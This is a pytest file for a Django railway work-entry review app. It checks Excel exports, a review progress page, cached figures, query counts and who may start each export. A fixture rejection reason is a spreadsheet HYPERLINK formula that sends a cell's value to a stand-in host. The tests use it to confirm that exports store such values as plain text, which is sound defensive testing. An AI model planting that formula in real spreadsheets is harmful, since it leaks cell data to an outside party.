"""The offices' Excel exports (entry list, review queue, disputes, the monthly review report) and the
review progress page: figures read back from real files, every role against every page and download."""

from __future__ import annotations

import io
from datetime import timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.core.cache import cache
from django.urls import reverse
from django.utils.module_loading import import_string

from competitions import jobs, tasks
from competitions.models import Job, JobStatus
from config.months import format_month, previous_month
from reviews import reports
from reviews.models import EntryStatus, WorkEntry
from reviews.services import dispute_answer, dispute_open, entry_create
from reviews.workflow import entries_transition, period_sign_off

pytestmark = pytest.mark.django_db

FORMULA_REASON = '=HYPERLINK("http://x.example/?"&B2,"点此核对")'


@pytest.fixture
def files(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path / "media"


@pytest.fixture
def run_jobs(monkeypatch, django_capture_on_commit_callbacks, files):
    """Jobs run as soon as they are committed, in this process (as a worker would run them)."""
    monkeypatch.setattr(tasks.run_job, "delay", lambda *a, **kw: tasks.run_job.apply(args=a, kwargs=kw))

    def started(send):
        with django_capture_on_commit_callbacks(execute=True):
            return send()

    return started


@pytest.fixture(autouse=True)
def empty_cache():
    """The progress page's copies of earlier tests' months are not this test's."""
    cache.clear()


@pytest.fixture
def month(today):
    return previous_month(today)


@pytest.fixture
def m(w, f, month, today):
    """Last month of the 机务 system, by hand: depot D1 (bob) with its workshop (alice), a third depot
    with a driver and no entries, the 工务 system's entry, another competition's, and this month's.

    alice (workshop): d1 rejected (formula reason), d2 rejected (数量有误), d3 pending and hinted
    bob (depot D1):   d1 km rejected (formula reason), d2 km approved, d1 trips pending
    """
    d1, d2, d3, d4 = (month + timedelta(days=n) for n in range(4))
    silent_depot = f.unit(parent=w.depot.parent, code="D3", name="天津机务段")
    f.worker(silent_depot, w.driver, name="赵六")

    def enter(worker, rule, day, quantity="100", comp=None, actor=None):
        return entry_create(actor=actor or w.clerk, competition=comp or w.comp,
                            worker_id=worker.pk, rule_id=rule.pk, work_date=day, quantity=quantity)

    a1, a2, a3 = (enter(w.alice, w.km, d) for d in (d1, d2, d3))
    b1, b2 = enter(w.bob, w.km, d1), enter(w.bob, w.km, d2)
    bt = enter(w.bob, w.trips, d1, "3")
    enter(w.carol, w.metres, d1, actor=w.other_clerk)  # the 工务 system
    # started earlier: the portal's current competition stays w.comp
    other_comp = f.competition(start=w.comp.start_date - timedelta(days=1), end=w.comp.end_date, name="另一竞赛")
    enter(w.alice, f.rule(other_comp, w.driver, metric="其他指标"), d1, comp=other_comp)
    if today.replace(day=1) != month:
        enter(w.alice, w.km, today.replace(day=1))  # this month: not in last month's figures

    def review(entries, to, reason=""):
        entries_transition(actor=w.reviewer, entries=WorkEntry.objects.filter(pk__in=[e.pk for e in entries]),
                           to_status=to, reason=reason)

    review([a1, b1], EntryStatus.REJECTED, FORMULA_REASON)
    review([a2], EntryStatus.REJECTED, "数量有误")
    review([b2], EntryStatus.APPROVED)
    WorkEntry.objects.filter(pk=a3.pk).update(flags=1)

    bob_user = f.worker_user(w.bob)
    answered = dispute_open(actor=w.alice_user, work_date=d1, comment="=1+1 我没有错", entry_id=a1.pk)
    dispute_answer(actor=w.clerk, dispute_id=answered.pk, response="已核实", corrected=False)
    dispute_open(actor=w.alice_user, work_date=d4, comment="这天漏录了")  # a day without an entry
    dispute_open(actor=bob_user, work_date=d1, comment="退回不对", entry_id=b1.pk)
    return {"days": (d1, d2, d3, d4), "a": (a1, a2, a3), "b": (b1, b2, bt), "silent": silent_depot}


def login(client, user):
    client.force_login(user)
    return client


def sheet_rows(book, title) -> list[tuple]:
    return list(book[title].iter_rows(values_only=True))


def job_book(job: Job):
    job.refresh_from_db()
    assert job.status == JobStatus.SUCCEEDED, job.error
    with job.file.open("rb") as handle:
        return openpyxl.load_workbook(io.BytesIO(handle.read()))


def run_kind(kind: str, params: dict, user):
    out = io.BytesIO()
    filename = import_string(jobs.JOB_KINDS[kind].run)(params, out, lambda done, total: None, user=user)
    out.seek(0)
    return filename, openpyxl.load_workbook(out)


# -- the figures ---------------------------------------------------------------------------------------

def test_a_signed_off_months_approved_entries_are_counted_listed_and_exported_as_locked(client, w, m, month,
                                                                                         run_jobs):
    """Locked is the month's state (WorkEntry.shown_status): the stored rows stay approved."""
    _a1, _a2, a3 = m["a"]
    _b1, _b2, bt = m["b"]
    entries_transition(actor=w.reviewer, entries=WorkEntry.objects.filter(pk__in=[a3.pk, bt.pk]),
                       to_status=EntryStatus.APPROVED)
    period_sign_off(actor=w.reviewer, competition=w.comp, business_system=w.system, month=month)

    (depot,) = reports.month_by_depot(w.comp, w.system, month)
    assert (depot["n_approved"], depot["n_locked"], depot["n_rejected"], depot["n_pending"]) == (0, 3, 3, 0)
    login(client, w.clerk)
    locked = client.get(f"{reverse('entries:list')}?status=locked").content.decode()
    approved = client.get(f"{reverse('entries:list')}?status=approved").content.decode()
    assert locked.count('class="badge locked"') == 3 and "已锁定" in locked
    assert 'class="badge locked"' not in approved and 'class="badge approved"' not in approved
    run_jobs(lambda: client.post(reverse("entries:export"), {"status": "locked"}))
    rows = sheet_rows(job_book(Job.objects.get()), "录入")
    assert [row[9] for row in rows[1:]] == ["已锁定"] * 3


def test_month_by_depot_counts_each_status_per_depot_and_per_unit(w, m, month):
    (depot,) = reports.month_by_depot(w.comp, w.system, month)
    assert depot["unit__depot__name"] == "北京机务段"
    assert {k: depot[k] for k in ("total", "n_approved", "n_pending", "n_rejected", "n_locked", "flagged")} == {
        "total": 6, "n_approved": 1, "n_pending": 2, "n_rejected": 3, "n_locked": 0, "flagged": 1}
    units = {row["unit__name"]: row for row in reports.month_by_depot(w.comp, w.system, month, by=reports.UNIT)}
    assert set(units) == {"北京机务段", "运用车间"}
    assert (units["运用车间"]["total"], units["运用车间"]["n_rejected"], units["运用车间"]["flagged"]) == (3, 2, 1)
    assert (units["北京机务段"]["total"], units["北京机务段"]["n_approved"]) == (3, 1)


def test_the_progress_figures_name_the_depots_that_entered_nothing(w, m, month):
    figures = reports.review_progress(w.comp, w.system, month)
    (depot,) = figures["depots"]
    assert depot["approved"] == 1 and depot["reviewed"] == 66.7
    assert figures["totals"]["total"] == 6 and figures["totals"]["reviewed"] == 66.7
    # 天津机务段 has a driver and no entry; 北京工务段 has no worker of the system at all
    assert figures["silent"] == ["天津机务段"]


# -- the review progress page ---------------------------------------------------------------------------

def progress_url(w, month, system=None):
    return f"{reverse('review:progress')}?system={(system or w.system).pk}&month={format_month(month)}"


def test_the_progress_page_shows_each_depots_figures_and_the_silent_depots(client, w, m, month):
    page = login(client, w.reviewer).get(progress_url(w, month)).content.decode()
    row = page.split('id="progress"')[1].split("</table>")[0]
    cells = [c.split(">")[-1] for c in row.split("</td>")[:-1]]
    assert "北京机务段" in row and cells[1:6] == ["6", "1", "2", "3", "1"] and "66.7%" in row
    silent = page.split('id="silent-depots"')[1]
    assert "天津机务段" in silent and "北京工务段" not in silent
    assert reverse("review:report") in page
    assert reverse("review:sign_off") in page and reverse("review:queue") in page


def test_the_progress_pages_share_reviewed_is_not_called_approved(client, w, m, month):
    # given last month's 6 entries of 北京机务段: 1 approved, 3 rejected, 2 pending
    login(client, w.reviewer)
    # when the reviewer reads the progress page, in Chinese and in English
    page = client.get(progress_url(w, month)).content.decode()
    client.cookies["django_language"] = "en"
    english = client.get(progress_url(w, month)).content.decode()
    # then the share reviewed (approved and rejected, 4 of 6) has its own name: in English it read
    # "Approved", beside the column of the approved entries, over a figure counting the rejected ones too
    assert "已审核比例：66.7%" in page.split('id="progress-summary"')[1].split("</p>")[0]
    head = english.split('id="progress"')[1].split("</thead>")[0]
    assert [c.split("</th>")[0] for c in head.split('class="num">')[1:]] == [
        "Entries", "Approved", "Pending", "Rejected", "Flagged", "Reviewed"]
    assert "Reviewed: 66.7%" in english


def test_the_page_shows_a_copy_counted_within_a_minute_and_counts_again_in_the_background(
        client, w, m, month, monkeypatch, django_capture_on_commit_callbacks):
    from reviews import tasks as review_tasks

    sent = []
    monkeypatch.setattr(review_tasks.refresh_review_progress, "delay", lambda *args: sent.append(args))
    login(client, w.reviewer)
    client.get(progress_url(w, month))  # counted now: there was no copy
    entry_create(actor=w.clerk, competition=w.comp, worker_id=w.alice.pk, rule_id=w.trips.pk,
                 work_date=m["days"][3], quantity="1")

    # within the minute: the copy, nothing sent
    assert "<td class=\"num\">6</td>" in client.get(progress_url(w, month)).content.decode() and sent == []

    # older than a minute: the copy still, and one refresh sent (not two)
    monkeypatch.setattr(reports, "PROGRESS_FRESH", timedelta(seconds=-1))
    with django_capture_on_commit_callbacks(execute=True):
        client.get(progress_url(w, month))
        client.get(progress_url(w, month))
    assert sent == [(w.comp.pk, w.system.pk, month.isoformat())]

    # the refresh counts the new entry; the page shows it
    review_tasks.refresh_review_progress(*sent[0])
    assert "<td class=\"num\">7</td>" in client.get(progress_url(w, month)).content.decode()


def test_the_queue_and_the_sign_off_page_link_to_the_progress_page(client, w, m, month):
    login(client, w.reviewer)
    target = f"{reverse('review:progress')}?system={w.system.pk}&amp;month={format_month(month)}"
    for url in (f"{reverse('review:queue')}?system={w.system.pk}&month={format_month(month)}",
                f"{reverse('review:sign_off')}?system={w.system.pk}&month={format_month(month)}"):
        assert target in client.get(url).content.decode()


def test_a_month_with_no_entries_lists_every_depot_of_the_system_as_silent(client, w, f, month):
    page = login(client, w.reviewer).get(progress_url(w, month)).content.decode()
    assert "本月没有录入" in page
    silent = page.split('id="silent-depots"')[1]
    assert "北京机务段" in silent and "北京工务段" not in silent



def test_a_month_outside_the_competition_says_so_instead_of_listing_silent_depots(client, w, f, month):
    from config.months import previous_month

    # given a month before the competition began (a hand-edited link, or the month list's extra entry)
    before = previous_month(w.comp.start_date.replace(day=1))
    # when the reviewer opens its progress
    page = login(client, w.reviewer).get(progress_url(w, before)).content.decode()
    # then the page says it is outside the competition, not that 北京机务段 has entered nothing yet
    silent = page.split('id="silent-depots"')[1]
    assert "不在竞赛期间" in silent and "北京机务段" not in silent

# Signed in (session, user), the person's roles (three), the current competition, the reviewer's systems;
# then, without a copy in the cache, the month's aggregate and the system's depots.
PROGRESS_QUERIES = 8  # with the navigation's unread count
PROGRESS_COUNTING_QUERIES = PROGRESS_QUERIES + 2


def test_the_progress_page_runs_a_fixed_number_of_queries(client, w, m, month, f, django_assert_num_queries):
    login(client, w.reviewer)
    for more in (False, True):
        if more:  # more depots, units and entries: the same queries
            for n in range(5):
                depot = f.unit(parent=w.depot.parent, code=f"X{n}", name=f"新站段{n}")
                worker = f.worker(f.unit(parent=depot, code=f"X{n}-W"), w.driver)
                entry_create(actor=f.clerk(depot), competition=w.comp, worker_id=worker.pk, rule_id=w.km.pk,
                             work_date=month, quantity="1")
        cache.clear()
        with django_assert_num_queries(PROGRESS_COUNTING_QUERIES):
            client.get(progress_url(w, month))
        with django_assert_num_queries(PROGRESS_QUERIES):
            client.get(progress_url(w, month))


def test_who_may_open_the_progress_page(client, w, f, m, month):
    url = progress_url(w, month)
    assert client.get(url).status_code == 302  # anonymous: the login page
    for user in (w.alice_user, w.clerk):
        assert login(client, user).get(url).status_code == 403
    # a reviewer of another business system: this system's month is not there for them
    other = f.reviewer(w.other_system, username="reviewer-gw")
    assert login(client, other).get(url).status_code == 404
    assert login(client, other).get(progress_url(w, month, w.other_system)).status_code == 200
    for user in (w.reviewer, w.staff):
        assert login(client, user).get(url).status_code == 200


def test_a_bad_month_shows_the_current_one(client, w, m, today):
    page = login(client, w.reviewer).get(f"{reverse('review:progress')}?system={w.system.pk}&month=2026-13")
    assert page.status_code == 200 and today.strftime("%Y-%m") in page.content.decode()


# -- the monthly review report ---------------------------------------------------------------------------

def test_the_monthly_review_report_reads_back_with_the_months_figures(client, w, m, month, run_jobs):
    login(client, w.reviewer)
    response = run_jobs(lambda: client.post(reverse("review:report"), {"system": w.system.pk,
                                                                         "month": format_month(month)}))
    job = Job.objects.get()
    assert response.status_code == 302 and response.url == reverse("jobs:detail", args=[job.pk])
    assert job.kind == "review_month_xlsx" and job.created_by == w.reviewer
    assert job.params == {"competition": w.comp.pk, "system": w.system.pk, "month": format_month(month)}
    book = job_book(job)
    assert job.filename == f"{w.comp.name}_机务_{format_month(month)}_月度审核报表.xlsx"
    assert book.sheetnames == ["按站段", "按单位", "退回原因", "未录入的站段", "退回明细", "说明"]

    depots = sheet_rows(book, "按站段")
    assert depots[0] == ("站段", "录入", "已通过", "已锁定", "待审核", "已退回", "有审核提示", "已审核比例（%）",
                         "申诉待处理", "申诉已处理")
    # disputes: alice's answered one and bob's open one are about entries; alice's day without an entry is open
    assert depots[1:] == [("北京机务段", 6, 1, 0, 2, 3, 1, 66.7, 2, 1)]
    units = {row[1]: row for row in sheet_rows(book, "按单位")[1:]}
    assert units["运用车间"] == ("北京机务段", "运用车间", 3, 0, 0, 1, 2, 1, 66.7, 1, 1)
    assert units["北京机务段"] == ("北京机务段", "北京机务段", 3, 1, 0, 1, 1, 0, 66.7, 1, 0)

    assert sheet_rows(book, "退回原因")[1:] == [(FORMULA_REASON, 2), ("数量有误", 1)]
    assert sheet_rows(book, "未录入的站段")[1:] == [("天津机务段",)]
    details = sheet_rows(book, "退回明细")
    assert details[0][:2] == ("工作日期", "工号") and len(details) == 4
    assert {(r[1], r[10]) for r in details[1:]} == {(w.alice.employee_no, FORMULA_REASON),
                                                    (w.alice.employee_no, "数量有误"), (w.bob.employee_no, FORMULA_REASON)}
    # the formula-like reason is text, never a formula
    reason_cells = [row[10] for row in book["退回明细"].iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in reason_cells)
    assert book["退回原因"]["A2"].data_type == "s" and book["退回原因"]["A2"].value == FORMULA_REASON
    # no personal data
    everything = str([sheet_rows(book, title) for title in book.sheetnames])
    assert w.alice.id_number not in everything and w.alice.mobile not in everything
    about = dict(sheet_rows(book, "说明"))
    assert about["业务系统"] == "机务" and about["录入"] == 6


def test_the_finished_reports_page_says_what_its_row_count_counts(client, w, m, month, run_jobs):
    # given a reviewer who made the month's report (3 rejected entries among the month's 6)
    login(client, w.reviewer)
    run_jobs(lambda: client.post(reverse("review:report"), {"system": w.system.pk, "month": format_month(month)}))
    job = Job.objects.get()
    # when they open the finished job
    page = client.get(reverse("jobs:detail", args=[job.pk])).content.decode()
    # then the count is said to be the rejected entries' sheet, not the report's rows ("共 0 行" for a
    # month without rejections read as an empty report)
    assert "报表已生成，其中退回明细 3 行。" in page and "已完成，共" not in page
    client.cookies["django_language"] = "en"
    page = client.get(reverse("jobs:detail", args=[job.pk])).content.decode()
    assert "its sheet of rejected entries has 3 rows" in page


def test_the_report_counts_only_this_competition_and_system(w, m, month):
    _name, book = run_kind("review_month_xlsx", {"competition": w.comp.pk, "system": w.other_system.pk,
                                                 "month": format_month(month)}, w.staff)
    assert sheet_rows(book, "按站段")[1:] == [("北京工务段", 1, 0, 0, 1, 0, 0, 0.0, 0, 0)]
    assert sheet_rows(book, "退回明细")[1:] == []


def test_the_report_writes_its_progress_over_the_rejected_entries(w, m, month, monkeypatch):
    monkeypatch.setattr(reports, "PROGRESS_EVERY", 2)
    steps = []
    reports.review_month_xlsx({"competition": w.comp.pk, "system": w.system.pk, "month": format_month(month)},
                              io.BytesIO(), lambda done, total: steps.append((done, total)), user=w.reviewer)
    assert steps == [(0, None), (0, 3), (0, 3), (2, 3), (3, 3), (3, 3)]


def test_a_report_whose_reviewer_lost_the_system_fails_with_a_message(w, m, month, files):
    job = Job.objects.create(kind="review_month_xlsx", created_by=w.reviewer, params={
        "competition": w.comp.pk, "system": w.system.pk, "month": format_month(month)})
    w.reviewer.reviewer_systems.clear()
    job = jobs.job_run(job_id=job.pk)
    assert job.status == JobStatus.FAILED and "不再负责" in job.error and not job.file


# -- the lists' exports ---------------------------------------------------------------------------------

def test_the_entry_list_export_has_the_rows_the_page_filters(client, w, m, run_jobs):
    login(client, w.clerk)
    page = client.get(f"{reverse('entries:list')}?status=rejected").content.decode()
    assert reverse("entries:export") in page and 'name="status" value="rejected"' in page
    run_jobs(lambda: client.post(reverse("entries:export"), {"status": "rejected", "date": "", "after": "x"}))
    job = Job.objects.get()
    assert job.params == {"competition": w.comp.pk, "filters": {"status": "rejected"}}
    book = job_book(job)
    rows = sheet_rows(book, "录入")
    assert rows[0] == ("工作日期", "工号", "姓名", "单位", "工种", "指标", "工作量", "计量单位", "积分", "状态", "类型",
                       "退回原因", "说明", "录入人", "录入时间")
    a1, a2, _a3 = m["a"]
    b1 = m["b"][0]
    # newest first, as on the page: the later day, then the same day's entries by id, highest first
    assert [(r[1], r[0], r[9], r[11]) for r in rows[1:]] == [
        (w.alice.employee_no, a2.work_date.isoformat(), "已退回", "数量有误"),
        (w.bob.employee_no, b1.work_date.isoformat(), "已退回", FORMULA_REASON),
        (w.alice.employee_no, a1.work_date.isoformat(), "已退回", FORMULA_REASON)]
    assert all(row[11].data_type == "s" for row in book["录入"].iter_rows(min_row=2))
    assert rows[1][6] == 100 and rows[1][8] == float(Decimal("1.000"))


def test_the_entry_list_export_is_the_clerks_units_only(w, f, m):
    other = f.clerk(w.other_depot, username="clerk-gw")
    _name, book = run_kind("entries_xlsx", {"competition": w.comp.pk}, other)
    assert [r[1] for r in sheet_rows(book, "录入")[1:]] == [w.carol.employee_no]


def test_the_queue_export_has_the_pages_rows_in_the_pages_order(client, w, m, month, run_jobs):
    login(client, w.reviewer)
    query = f"?system={w.system.pk}&month={format_month(month)}"
    page = client.get(reverse("review:queue") + query).content.decode()
    assert reverse("review:export") in page
    run_jobs(lambda: client.post(reverse("review:export"), {"system": w.system.pk, "month": format_month(month)}))
    rows = sheet_rows(job_book(Job.objects.get()), "审核队列")
    a3, bt = m["a"][2], m["b"][2]
    # pending only (the page's default), hinted first
    assert [(r[1], r[0], r[10], r[11]) for r in rows[1:]] == [
        (w.alice.employee_no, a3.work_date.isoformat(), "待审核", "远高于同指标中位数"),
        (w.bob.employee_no, bt.work_date.isoformat(), "待审核", "")]

    run_jobs(lambda: client.post(reverse("review:export"), {
        "system": w.system.pk, "month": format_month(month), "status": "rejected", "worker": w.bob.employee_no}))
    job = Job.objects.order_by("-pk").first()
    assert job.params["filters"] == {"status": "rejected", "worker": w.bob.employee_no}
    rows = sheet_rows(job_book(job), "审核队列")
    assert [(r[1], r[12]) for r in rows[1:]] == [(w.bob.employee_no, FORMULA_REASON)]


def test_the_dispute_export_has_the_status_shown(client, w, m, run_jobs):
    login(client, w.clerk)
    assert reverse("entries:disputes_export") in client.get(reverse("entries:disputes")).content.decode()
    run_jobs(lambda: client.post(reverse("entries:disputes_export"), {"status": "open"}))
    book = job_book(Job.objects.get())
    rows = sheet_rows(book, "申诉")
    assert rows[0][:3] == ("提交时间", "工号", "姓名")
    assert [(r[1], r[5], r[7], r[8]) for r in rows[1:]] == [
        (w.alice.employee_no, "当天无录入", "这天漏录了", "待处理"),
        (w.bob.employee_no, "安全走行公里", "退回不对", "待处理")]

    run_jobs(lambda: client.post(reverse("entries:disputes_export"), {"status": "answered"}))
    book = job_book(Job.objects.order_by("-pk").first())
    (answered,) = sheet_rows(book, "申诉")[1:]
    assert answered[7] == "=1+1 我没有错" and answered[9] == "已核实"
    assert book["申诉"]["H2"].data_type == "s"


# -- who may start what ---------------------------------------------------------------------------------

def test_who_may_start_each_export(client, w, f, m, month):
    monthly = {"system": w.system.pk, "month": format_month(month)}
    posts = {"entries:export": ({}, ("clerk", "staff")), "entries:disputes_export": ({}, ("clerk", "staff")),
             "review:export": (monthly, ("reviewer", "staff")), "review:report": (monthly, ("reviewer", "staff"))}
    users = {"worker": w.alice_user, "clerk": w.clerk, "reviewer": w.reviewer, "staff": w.staff}
    for name, (data, allowed) in posts.items():
        client.logout()
        assert client.post(reverse(name), data).status_code == 302
        assert client.post(reverse(name), data).url.startswith(reverse("login"))
        for role, user in users.items():
            response = login(client, user).post(reverse(name), data)
            if role in allowed:
                assert response.status_code == 302 and "/jobs/" in response.url, (name, role)
            else:
                assert response.status_code == 403, (name, role)
        assert login(client, w.clerk if "entries" in name else w.reviewer).get(reverse(name)).status_code == 405
    # one job for each allowed role and export, started by that person; none for anyone else
    assert sorted(Job.objects.values_list("kind", "created_by__username")) == sorted(
        (kind, user.username) for kind in ("entries_xlsx", "disputes_xlsx", "review_queue_xlsx", "review_month_xlsx")
        for user in ((w.clerk, w.staff) if kind in ("entries_xlsx", "disputes_xlsx") else (w.reviewer, w.staff)))
    # a reviewer of another business system cannot export this one's queue or report
    other = f.reviewer(w.other_system, username="reviewer-gw")
    for name in ("review:export", "review:report"):
        assert login(client, other).post(reverse(name), monthly).status_code == 404
    assert Job.objects.count() == 8


def test_pressing_export_twice_while_it_runs_starts_one_job(client, w, m, month):
    login(client, w.reviewer)
    data = {"system": w.system.pk, "month": format_month(month)}
    first, second = (client.post(reverse("review:report"), data) for _ in range(2))
    assert first.url == second.url and Job.objects.count() == 1
    client.post(reverse("review:report"), {**data, "month": format_month(previous_month(month))})
    assert Job.objects.count() == 2


def test_the_reports_depot_totals_are_month_by_depots_rows(w, f, m, month):
    # a second depot with entries, so the roll-up has more than one depot to keep apart
    depot = f.unit(parent=w.depot.parent, code="D4", name="石家庄机务段")
    worker = f.worker(f.unit(parent=depot, code="D4-W"), w.driver)
    entry_create(actor=f.clerk(depot), competition=w.comp, worker_id=worker.pk, rule_id=w.km.pk, work_date=month,
                 quantity="1")
    units = reports.month_by_depot(w.comp, w.system, month, by=reports.UNIT)
    assert reports._depot_totals(units) == reports.month_by_depot(w.comp, w.system, month)


def test_an_export_is_named_in_the_language_of_whoever_downloads_it(client, w, m, run_jobs):
    from urllib.parse import unquote

    from django.utils import timezone

    def downloaded_name(language: str, pk: int) -> str:
        client.cookies["django_language"] = language
        disposition = client.get(reverse("jobs:download", args=[pk]))["Content-Disposition"]
        # as before: a Chinese name percent-encoded as RFC 5987 says (filename*=utf-8''…), an ASCII one quoted
        if disposition.startswith("attachment; filename*=utf-8''"):
            return unquote(disposition.split("''")[1])
        assert disposition.startswith('attachment; filename="')
        return disposition.split('"')[1]

    # given: the open disputes exported on a Chinese page
    login(client, w.clerk)
    run_jobs(lambda: client.post(reverse("entries:disputes_export"), {"status": "open"}))
    job = Job.objects.get()
    today = timezone.localdate().isoformat()
    assert job.filename == f"申诉_待处理_{today}.xlsx"  # its column: the starter's language
    # then: downloaded on an English page it is named in English, on a Chinese one in Chinese
    assert downloaded_name("en", job.pk) == f"Dispute_Open_{today}.xlsx"
    assert downloaded_name("zh-hans", job.pk) == f"申诉_待处理_{today}.xlsx"
    client.cookies["django_language"] = "en"
    assert f"Download Dispute_Open_{today}.xlsx" in client.get(reverse("jobs:detail", args=[job.pk])).content.decode()
    assert f">Dispute_Open_{today}.xlsx</a>" in client.get(reverse("jobs:list")).content.decode()


def test_a_review_queue_export_keeps_names_as_they_are_and_words_only_its_own(client, w, m, run_jobs, month):
    from urllib.parse import unquote

    login(client, w.reviewer)
    client.cookies["django_language"] = "en"
    run_jobs(lambda: client.post(reverse("review:export"), {"system": w.system.pk, "month": format_month(month),
                                                            "status": "rejected"}))
    job = Job.objects.get()
    english = f"{w.comp.name}_机务_{format_month(month)}_Review queue_Rejected.xlsx"
    assert job.filename == english
    client.cookies["django_language"] = "zh-hans"
    disposition = client.get(reverse("jobs:download", args=[job.pk]))["Content-Disposition"]
    assert unquote(disposition.split("''")[1]) == f"{w.comp.name}_机务_{format_month(month)}_审核队列_已退回.xlsx"
    # a job from before the name's parts were kept is named as it was written
    Job.objects.filter(pk=job.pk).update(result={})
    disposition = client.get(reverse("jobs:download", args=[job.pk]))["Content-Disposition"]
    assert unquote(disposition.split("''")[1]) == english
